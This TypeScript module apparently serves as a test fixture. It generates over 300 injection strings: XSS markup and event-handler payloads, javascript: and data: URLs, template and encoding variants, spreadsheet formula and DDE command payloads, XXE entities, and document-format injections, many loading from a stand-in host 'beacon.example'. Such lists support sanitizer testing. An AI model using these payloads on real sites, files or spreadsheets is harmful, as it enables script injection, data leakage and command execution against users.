/** Over 300 markup and script injections, each different. */
const call = 'alert(document.domain)';
const beacon = 'https://beacon.example/x';

const tags = ['img', 'svg', 'body', 'video', 'audio', 'iframe', 'object', 'details', 'marquee', 'math'];
const handlers = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus autofocus', 'ontoggle', 'onbegin'];
const closings = ['', '">', "'>", '</title>', '</style>', '</textarea>', '-->', '</li></ul>', ']]>', '*/'];
const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</ScRiPt>`,
  `<script src=${beacon}></script>`,
  `<script type="module">import"${beacon}"</script>`,
  `<svg><script href="${beacon}"/></svg>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<link rel=stylesheet href=${beacon}>`,
  `<style>@import "${beacon}"</style>`,
  `<base href="${beacon}">`,
  `<meta http-equiv=refresh content="0;url=${beacon}">`,
  `<form action=${beacon}><button autofocus>go</button></form>`,
  `<object data=${beacon}></object>`,
  `<embed src=${beacon}>`,
];
const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'data:text/html,',
  'vbscript:',
  '//beacon.example/',
  'blob:',
];
const others = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\\u003cscript\\u003e${call}`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `=HYPERLINK("${beacon}")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${beacon}">]>&e;`,
  `<w:instrText>INCLUDETEXT "${beacon}"</w:instrText>`,
  `</w:t></w:r><w:r><w:t>`,
  `) /JS (${call}) /S /JavaScript (`,
  `) Tj ET Q endstream endobj (`,
  `<!--#include virtual="${beacon}"-->`,
  `<?xml-stylesheet href="${beacon}"?>`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `background:url(${beacon})`,
];

export const hostileTexts: readonly string[] = [
  ...closings.flatMap((closing) => scripts.map((script) => closing + script)),
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} src=x ${handler}=${call}>`)),
  ...closings.flatMap((closing) => tags.slice(0, 6).map((tag) => `${closing}<${tag} src=${beacon} href=${beacon} x='`)),
  ...addresses.flatMap((address) => [
    `${address}${call}`,
    `<a href="${address}${call}">x</a>`,
    `[x](${address}${call})`,
  ]),
  ...others,
];
